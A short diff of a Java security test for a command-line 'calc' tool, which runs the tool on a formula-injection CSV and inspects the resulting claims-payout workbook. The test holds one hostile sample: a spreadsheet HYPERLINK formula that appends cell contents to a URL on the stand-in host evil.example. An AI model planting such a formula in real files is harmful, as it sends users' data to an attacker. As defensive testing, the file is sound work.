@@ -26,7 +26,7 @@ class SecurityTest {
     Path claims =
         Files.copy(
             BadInputsTest.CORPUS.resolve("formula-injection.csv"), dir.resolve("claims.csv"));
-    Cli r = Cli.run("calc", claims.toString());
+    Cli r = Cli.inDir(dir, "calc", claims.toString());
     assertThat(r.exit()).as(r.all()).isZero();
     String hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")";
     try (XSSFWorkbook wb = new XSSFWorkbook(dir.resolve("claims-payout.xlsx").toFile())) {
